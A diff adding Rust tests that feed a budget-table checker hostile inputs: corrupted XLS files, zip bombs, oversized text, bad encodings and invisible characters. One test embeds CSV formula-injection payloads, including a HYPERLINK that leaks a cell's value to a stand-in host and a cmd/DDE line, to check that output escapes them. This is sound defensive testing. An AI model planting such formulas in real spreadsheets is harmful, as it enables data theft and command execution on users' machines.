@@ -1,0 +1,214 @@
+//! Inputs a hostile or unlucky user would give (issue 12): damaged workbooks, zip bombs, huge
+//! inputs, formulas in row names, broken encodings and quotes, invisible characters. Each is
+//! generated here — nothing is taken from the corpus — and each must be read or refused with a
+//! message, within bounded memory, never crashing and never misread without a word.
+
+use budget_check::ingest::{read_file, Source};
+use budget_check::report::Severity;
+use budget_check::tolerance::RoundingMode;
+use budget_check::{check_sources, check_text};
+use std::process::Command;
+
+const SEED: &str = include_str!("fixtures/seed.txt");
+
+fn fixture(name: &str) -> Vec<u8> {
+    let path = format!("{}/tests/fixtures/formats/{name}", env!("CARGO_MANIFEST_DIR"));
+    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
+}
+
+/// A small deterministic generator, so a failure names a reproducible case.
+struct Lcg(u64);
+
+impl Lcg {
+    fn next(&mut self) -> usize {
+        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+        (self.0 >> 33) as usize
+    }
+}
+
+/// Runs the CLI on `bytes` saved as `name`, with its address space capped at 1 GiB and a time
+/// limit, and returns (exit status, stderr).
+fn cli_bounded(name: &str, bytes: &[u8]) -> (i32, String) {
+    let dir = std::env::temp_dir().join(format!("budget-check-hostile-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join(name);
+    std::fs::write(&path, bytes).unwrap();
+    let out = Command::new("bash")
+        .arg("-c")
+        .arg("ulimit -v 1048576; exec timeout 60 \"$0\" --format json \"$1\" > /dev/null")
+        .arg(env!("CARGO_BIN_EXE_budget-check"))
+        .arg(&path)
+        .output()
+        .unwrap();
+    let _ = std::fs::remove_file(&path);
+    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
+}
+
+/// A zip of `entries` (name, content), each deflated; `declared` replaces every entry's
+/// declared size when given (a zip that lies about its sizes).
+fn zip(entries: &[(&str, Vec<u8>)], declared: Option<u32>) -> Vec<u8> {
+    let (mut out, mut central) = (Vec::new(), Vec::new());
+    for (name, content) in entries {
+        let packed = miniz_oxide::deflate::compress_to_vec(content, 1);
+        let size = declared.unwrap_or(content.len() as u32);
+        let offset = out.len() as u32;
+        let common = |out: &mut Vec<u8>| {
+            out.extend([20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, deflate, time, date, crc
+            out.extend((packed.len() as u32).to_le_bytes());
+            out.extend(size.to_le_bytes());
+            out.extend((name.len() as u16).to_le_bytes());
+            out.extend([0, 0]); // extra
+        };
+        out.extend(b"PK\x03\x04");
+        common(&mut out);
+        out.extend(name.as_bytes());
+        out.extend(&packed);
+        central.extend(b"PK\x01\x02\x14\x00");
+        common(&mut central);
+        central.extend([0u8; 8]); // comment, disk, internal attributes
+        central.extend([0u8; 4]); // external attributes
+        central.extend(offset.to_le_bytes());
+        central.extend(name.as_bytes());
+    }
+    let at = out.len() as u32;
+    let n = entries.len() as u16;
+    out.extend(&central);
+    out.extend(b"PK\x05\x06\x00\x00\x00\x00");
+    out.extend(n.to_le_bytes());
+    out.extend(n.to_le_bytes());
+    out.extend((central.len() as u32).to_le_bytes());
+    out.extend(at.to_le_bytes());
+    out.extend([0, 0]);
+    out
+}
+
+#[test]
+fn damaged_xls_files_never_exhaust_memory() {
+    // 18 of 258 such mutations made calamine follow a looping sector chain until memory ran
+    // out (issue 12). Each now exits 0, 1 or 2 under a 1 GiB address-space limit.
+    let original = fixture("biao3.xls");
+    let fat = 512 * (u32::from_le_bytes(original[76..80].try_into().unwrap()) as usize + 1);
+    let sectors = original.len() / 512 - 1;
+    let mut rng = Lcg(12);
+    for case in 0..260 {
+        let mut bytes = original.clone();
+        for _ in 0..1 + rng.next() % 8 {
+            match rng.next() % 3 {
+                // An allocation-table entry pointing at another sector: how chains loop.
+                0 => {
+                    let entry = fat + 4 * (rng.next() % sectors);
+                    bytes[entry..entry + 4].copy_from_slice(&((rng.next() % sectors) as u32).to_le_bytes());
+                }
+                // The header and the first sectors (tables, directory).
+                1 => bytes[rng.next() % 2048] = rng.next() as u8,
+                _ => {
+                    let at = rng.next() % bytes.len();
+                    bytes[at] = rng.next() as u8;
+                }
+            }
+        }
+        let (code, stderr) = cli_bounded(&format!("m{case}.xls"), &bytes);
+        assert!(matches!(code, 0..=2), "mutation {case}: exit {code}\n{stderr}");
+        // The page cannot catch a panic: the guards must keep calamine from panicking at all.
+        assert!(!stderr.contains("panicked"), "mutation {case}: {stderr}");
+    }
+}
+
+#[test]
+fn a_looping_sector_chain_is_refused() {
+    // The directory chain of biao3.xls made to point at itself.
+    let mut bytes = fixture("biao3.xls");
+    let dir_start = u32::from_le_bytes(bytes[48..52].try_into().unwrap()) as usize;
+    let fat_sector = u32::from_le_bytes(bytes[76..80].try_into().unwrap()) as usize;
+    let entry = 512 * (fat_sector + 1) + 4 * dir_start;
+    bytes[entry..entry + 4].copy_from_slice(&(dir_start as u32).to_le_bytes());
+    let err = read_file("环.xls", &bytes).unwrap_err();
+    assert!(err.message_en.contains("loops"), "{}", err.message_en);
+    assert_eq!(cli_bounded("loop.xls", &bytes).0, 2);
+}
+
+#[test]
+fn zip_bombs_are_refused_naming_the_file_and_the_limit() {
+    let spaces = vec![b' '; 40 << 20];
+    let honest = zip(&[("xl/worksheets/sheet1.xml", spaces.clone())], None);
+    let err = read_file("炸弹.xlsx", &honest).unwrap_err();
+    assert!(err.message_zh.contains("炸弹.xlsx") && err.message_zh.contains("32 MB"), "{}", err.message_zh);
+    assert!(err.message_en.contains("limit 32 MB"), "{}", err.message_en);
+    let lying = zip(&[("xl/worksheets/sheet1.xml", spaces)], Some(1000));
+    assert!(read_file("炸弹.xlsx", &lying).unwrap_err().message_en.contains("zip bomb"));
+    let (code, stderr) = cli_bounded("bomb.ods", &lying);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("bomb.ods") && stderr.contains("32 MB"), "{stderr}");
+}
+
+#[test]
+fn huge_pastes_are_cut_with_a_note_and_the_rest_is_checked() {
+    let copies = (21 << 20) / SEED.len() + 1;
+    let text = SEED.repeat(copies);
+    let report = check_text(&text);
+    assert_eq!(report.notes.len(), 1);
+    assert!(report.notes[0].message_en.contains("over the limit (20 MB or 200000 lines)"), "{:?}", report.notes);
+    assert!(!report.tables.is_empty());
+}
+
+#[test]
+fn formulas_in_row_names_reach_the_cli_csv_as_text() {
+    let report = check_text(SEED);
+    let label = report.findings.iter().find_map(|f| f.cell.as_ref()).unwrap().row_label.clone();
+    for formula in ["=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")", "+1+cmd|' /C calc'!A0", "@SUM(1+1)"] {
+        let dir = std::env::temp_dir().join(format!("budget-check-csv-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("formula.txt");
+        std::fs::write(&path, SEED.replace(&label, formula)).unwrap();
+        let out =
+            Command::new(env!("CARGO_BIN_EXE_budget-check")).args(["--format", "csv"]).arg(&path).output().unwrap();
+        let csv = String::from_utf8(out.stdout).unwrap();
+        assert!(csv.contains(&format!("'{}", formula.replace('"', "\"\""))), "{formula}: {csv}");
+    }
+}
+
+#[test]
+fn utf8_with_a_bad_byte_and_utf16_without_bom_are_read_with_a_note() {
+    let tables = check_text(SEED).tables.len();
+    let mut bad = SEED.as_bytes().to_vec();
+    bad.insert(SEED.find("表二").unwrap(), 0xC3);
+    let read = read_file("坏字节.txt", &bad).unwrap();
+    assert_eq!(check_text(&read.text).tables.len(), tables);
+    assert!(read.notes[0].0.contains("坏字节.txt") && read.notes[0].0.contains("第 "), "{:?}", read.notes);
+    let cut = &SEED.as_bytes()[..SEED.len() - 1 - SEED.chars().last().map_or(1, char::len_utf8) + 1];
+    assert!(read_file("截断.txt", cut).unwrap().text.contains("表一"));
+    let utf16: Vec<u8> = SEED.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let read = read_file("utf16.csv", &utf16);
+    assert!(read.is_ok());
+    let read = read_file("utf16.txt", &utf16).unwrap();
+    assert_eq!(read.text, SEED);
+    assert!(read.notes[0].0.contains("UTF-16LE"), "{:?}", read.notes);
+}
+
+#[test]
+fn a_broken_csv_quote_is_reported_at_its_line_and_the_rest_read() {
+    let csv = "项目,金额\n一般公共预算,1.00\n\"政府性基金,2.00\n国有资本,3.00\n";
+    let read = read_file("引号.csv", csv.as_bytes()).unwrap();
+    assert!(read.notes[0].0.contains("第 3 行"), "{:?}", read.notes);
+    assert!(read.text.ends_with("国有资本\t3.00"), "{}", read.text);
+}
+
+#[test]
+fn invisible_characters_in_cells_drop_no_relation_and_add_no_error() {
+    let clean = check_text(SEED);
+    let mut rng = Lcg(5);
+    let marks = ['\u{200B}', '\u{200F}', '\u{202E}', '\u{0}', '\u{7}', '\u{FEFF}', '\u{2066}'];
+    let mut text = String::new();
+    for c in SEED.chars() {
+        text.push(c);
+        if (c.is_ascii_digit() || c == '计') && rng.next().is_multiple_of(3) {
+            text.push(marks[rng.next() % marks.len()]);
+        }
+    }
+    let report = check_sources(&[Source { name: "x".into(), text }], RoundingMode::Nearest);
+    assert_eq!(report.counts.relations_checked, clean.counts.relations_checked);
+    let errors = |r: &budget_check::Report| r.findings.iter().filter(|f| f.severity == Severity::Error).count();
+    assert_eq!(errors(&report), errors(&clean));
+    assert_eq!(report.notes.len(), 1);
+    assert!(report.notes[0].message_zh.contains("看不见"), "{:?}", report.notes);
+}
